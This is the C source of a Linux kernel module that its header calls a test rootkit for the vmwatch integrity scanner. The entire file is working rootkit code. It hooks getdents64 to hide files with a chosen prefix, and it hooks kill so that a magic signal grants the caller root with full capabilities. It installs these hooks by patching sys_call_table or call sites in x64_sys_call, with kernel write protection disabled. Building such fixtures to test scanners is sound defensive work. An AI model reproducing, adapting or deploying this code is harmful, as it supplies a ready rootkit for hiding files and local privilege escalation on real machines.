// SPDX-License-Identifier: GPL-2.0
/*
 * rk_syscall: TEST ROOTKIT for vmwatch's integrity scanner. Never load it on a
 * machine you care about.
 *
 * Hooks two system calls:
 *   getdents64  hides directory entries whose name starts with `prefix`
 *               (default "rkhide_");
 *   kill        kill(<any pid>, magic_sig) (default 64) turns the caller into
 *               root (uid/gid 0, full capabilities) and sends nothing.
 *
 * Two hooking methods, picked by `mode`:
 *   table  rewrite sys_call_table[__NR_getdents64] and [__NR_kill] (.rodata);
 *   call   rewrite the rel32 of every `call/jmp __x64_sys_getdents64` and
 *          `call/jmp __x64_sys_kill` inside x64_sys_call() (.text).
 *   auto   (default) "table" when built for a kernel < 6.9, plus "call" whenever
 *          the kernel has x64_sys_call().  x64_sys_call() (a switch, added for
 *          the BHI mitigation in 6.9 and backported to 6.1.85+, 6.6.26+) is
 *          what do_syscall_64() uses, so on those kernels a table-only hook is
 *          still in memory but never dispatched.
 *
 * Read-only memory is written with CR0.WP cleared by our own `mov %cr0`
 * (native_write_cr0() pins WP), under stop_machine() (IRQs off on every CPU).
 * rmmod restores every byte it changed.
 *
 * One line on load, for tests (addresses raw):
 *   rk_syscall: hooked getdents64,kill mode=<m> prefix=<p> magic_sig=<n> \
 *     hook_getdents64=0x.. hook_kill=0x.. <site> <site> ...
 *   site = <label>@<address written>:<old value>-><new value>
 *     sys_call_table[217]@0x<slot address>:0x<old ptr>->0x<new ptr>
 *     x64_sys_call+0x<off>@0x<address of the e8/e9 insn>:0x<old target>->0x<new target>
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/version.h>
#include <linux/kprobes.h>
#include <linux/uaccess.h>
#include <linux/slab.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/cred.h>
#include <linux/capability.h>
#include <linux/stop_machine.h>
#include <linux/delay.h>
#include <linux/rcupdate.h>
#include <linux/dirent.h>
#include <linux/ptrace.h>
#include <asm/unistd.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test rootkit: syscall table / x64_sys_call hooks");

static char *prefix = "rkhide_";
module_param(prefix, charp, 0444);
MODULE_PARM_DESC(prefix, "hide directory entries starting with this");
static int magic_sig = 64;
module_param(magic_sig, int, 0444);
MODULE_PARM_DESC(magic_sig, "kill(pid, magic_sig) makes the caller root");
static char *mode = "auto";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "auto | table | call");

#include "rk_common.h"



/* ---- the hooks --------------------------------------------------------- */

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *);
static syscall_fn orig_getdents64, orig_kill;
static atomic_t inflight = ATOMIC_INIT(0);

/* Drops entries starting with `prefix` from the len bytes at ud. */
static long filter_dirents(struct linux_dirent64 __user *ud, long len)
{
	size_t plen = strlen(prefix);
	long off = 0, out = len;
	char *kbuf;

	if (!plen)
		return len;
	kbuf = kvmalloc(len, GFP_KERNEL);
	if (!kbuf)
		return len;
	if (copy_from_user(kbuf, ud, len)) {
		kvfree(kbuf);
		return len;
	}
	while (off < out) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(kbuf + off);
		unsigned short rl = d->d_reclen;

		if (rl == 0 || off + rl > out)
			break;
		if (strncmp(d->d_name, prefix, plen) == 0) {
			memmove(kbuf + off, kbuf + off + rl, out - off - rl);
			out -= rl;
		} else {
			off += rl;
		}
	}
	if (out != len && copy_to_user(ud, kbuf, out))
		out = -EFAULT;
	kvfree(kbuf);
	return out;
}

static asmlinkage long hook_getdents64(const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&inflight);
	/* a batch of only hidden entries must not look like end-of-directory */
	do {
		ret = orig_getdents64(regs);
		if (ret <= 0)
			break;
		ret = filter_dirents((struct linux_dirent64 __user *)regs->si, ret);
	} while (ret == 0);
	atomic_dec(&inflight);
	return ret;
}

static void give_root(void)
{
	struct cred *c = prepare_creds();

	if (!c)
		return;
	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
	c->gid = c->egid = c->sgid = c->fsgid = GLOBAL_ROOT_GID;
	c->cap_permitted = CAP_FULL_SET;
	c->cap_effective = CAP_FULL_SET;
	commit_creds(c);
}

static asmlinkage long hook_kill(const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&inflight);
	if ((int)regs->si == magic_sig) {
		give_root();
		ret = 0;
	} else {
		ret = orig_kill(regs);
	}
	atomic_dec(&inflight);
	return ret;
}

/* ---- installation ------------------------------------------------------ */

#define MAX_SITES 8

struct site {
	unsigned long insn;   /* address of the e8/e9 */
	unsigned long old_target, new_target;
	s32 old_rel, new_rel;
	const char *what;
};

static struct site sites[2 * MAX_SITES];
static int nsites;

static unsigned long *table;	/* sys_call_table, when hooked */
static unsigned long table_old[2], table_new[2];
static const int table_nr[2] = { __NR_getdents64, __NR_kill };
static bool table_hooked;

static char line[1000];
static int linelen;

#define say(...) (linelen += scnprintf(line + linelen, sizeof(line) - linelen, __VA_ARGS__))

/* Finds every e8/e9 rel32 in [fn, fn+size) whose target is `target`. */
static int find_sites(unsigned long fn, unsigned long size, unsigned long target,
		      unsigned long newt, const char *what)
{
	unsigned long i;
	int found = 0;

	for (i = 0; i + 5 <= size; i++) {
		const u8 *p = (const u8 *)(fn + i);
		s32 rel;
		unsigned long dst;
		s64 nrel;

		if (p[0] != 0xe8 && p[0] != 0xe9)
			continue;
		memcpy(&rel, p + 1, sizeof(rel));
		dst = fn + i + 5 + (long)rel;
		if (dst != target)
			continue;
		if (nsites >= ARRAY_SIZE(sites) || found >= MAX_SITES) {
			pr_err("too many call sites of %s\n", what);
			return -E2BIG;
		}
		nrel = (s64)newt - (s64)(fn + i + 5);
		if (nrel != (s32)nrel) {
			pr_err("hook out of rel32 range of x64_sys_call\n");
			return -ERANGE;
		}
		sites[nsites++] = (struct site){
			.insn = fn + i, .old_target = dst, .new_target = newt,
			.old_rel = rel, .new_rel = (s32)nrel, .what = what,
		};
		found++;
		i += 4;
	}
	return found;
}

static int patch_sites(bool install)
{
	struct wp_patch p[2 * MAX_SITES + 1] = {};
	int i;

	for (i = 0; i < nsites; i++) {
		p[i].dst = (void *)(sites[i].insn + 1);
		p[i].src = install ? &sites[i].new_rel : &sites[i].old_rel;
		p[i].len = 4;
	}
	return wp_patch_all(p);
}

static int patch_table(bool install)
{
	struct wp_patch p[3] = {};
	int i;

	for (i = 0; i < 2; i++) {
		p[i].dst = &table[table_nr[i]];
		p[i].src = install ? &table_new[i] : &table_old[i];
		p[i].len = sizeof(unsigned long);
	}
	return wp_patch_all(p);
}

static int __init rk_syscall_init(void)
{
	int (*size_offset)(unsigned long, unsigned long *, unsigned long *);
	unsigned long getdents, kill, x64, size = 0, off = 0;
	bool want_table, want_call;
	int err, i, n;

	err = resolve_kln();
	if (err) {
		pr_err("kprobe on kallsyms_lookup_name failed: %d\n", err);
		return err;
	}
	getdents = kln("__x64_sys_getdents64");
	kill = kln("__x64_sys_kill");
	x64 = kln("x64_sys_call");
	if (!getdents || !kill) {
		pr_err("__x64_sys_getdents64/__x64_sys_kill not found\n");
		return -ENOENT;
	}
	orig_getdents64 = (syscall_fn)getdents;
	orig_kill = (syscall_fn)kill;

	if (!strcmp(mode, "table")) {
		want_table = true;
		want_call = false;
	} else if (!strcmp(mode, "call")) {
		want_table = false;
		want_call = true;
	} else if (!strcmp(mode, "auto")) {
		want_table = LINUX_VERSION_CODE < KERNEL_VERSION(6, 9, 0);
		want_call = x64 != 0;
	} else {
		pr_err("mode must be auto, table or call\n");
		return -EINVAL;
	}

	if (want_call) {
		if (!x64) {
			pr_err("x64_sys_call not found: use mode=table\n");
			return -ENOENT;
		}
		size_offset = (void *)kln("kallsyms_lookup_size_offset");
		if (!size_offset || !size_offset(x64, &size, &off) || off)
			size = 0;
		if (!size || size > 0x10000)
			size = 0x10000;	/* bounded scan either way */
		n = find_sites(x64, size, getdents, (unsigned long)hook_getdents64,
			       "getdents64");
		if (n <= 0) {
			pr_err("no call to __x64_sys_getdents64 in x64_sys_call\n");
			return n < 0 ? n : -ENOENT;
		}
		n = find_sites(x64, size, kill, (unsigned long)hook_kill, "kill");
		if (n <= 0) {
			pr_err("no call to __x64_sys_kill in x64_sys_call\n");
			return n < 0 ? n : -ENOENT;
		}
	}
	if (want_table) {
		table = (unsigned long *)kln("sys_call_table");
		if (!table) {
			pr_err("sys_call_table not found\n");
			return -ENOENT;
		}
		table_old[0] = table[__NR_getdents64];
		table_old[1] = table[__NR_kill];
		if (table_old[0] != getdents || table_old[1] != kill) {
			pr_err("sys_call_table already modified\n");
			return -EBUSY;
		}
		table_new[0] = (unsigned long)hook_getdents64;
		table_new[1] = (unsigned long)hook_kill;
	}

	if (want_table) {
		err = patch_table(true);
		if (err)
			return err;
		table_hooked = true;
	}
	if (nsites) {
		err = patch_sites(true);
		if (err) {
			if (table_hooked)
				patch_table(false);
			return err;
		}
	}

	say("hooked getdents64,kill mode=%s%s%s prefix=%s magic_sig=%d hook_getdents64=%px hook_kill=%px",
	    want_table ? "table" : "", want_table && want_call ? "+" : "",
	    want_call ? "call" : "", prefix, magic_sig, hook_getdents64, hook_kill);
	if (want_table)
		for (i = 0; i < 2; i++)
			say(" sys_call_table[%d]@%px:%px->%px", table_nr[i],
			    &table[table_nr[i]], (void *)table_old[i], (void *)table_new[i]);
	for (i = 0; i < nsites; i++)
		say(" x64_sys_call+0x%lx@%px:%px->%px", sites[i].insn - x64,
		    (void *)sites[i].insn, (void *)sites[i].old_target,
		    (void *)sites[i].new_target);
	pr_info("%s\n", line);
	return 0;
}

static void __exit rk_syscall_exit(void)
{
	if (nsites)
		patch_sites(false);
	if (table_hooked)
		patch_table(false);
	/* tasks that entered a hook before the restore */
	synchronize_rcu_tasks();
	while (atomic_read(&inflight))
		msleep(10);
	synchronize_rcu_tasks();
	pr_info("unhooked getdents64,kill\n");
}

module_init(rk_syscall_init);
module_exit(rk_syscall_exit);
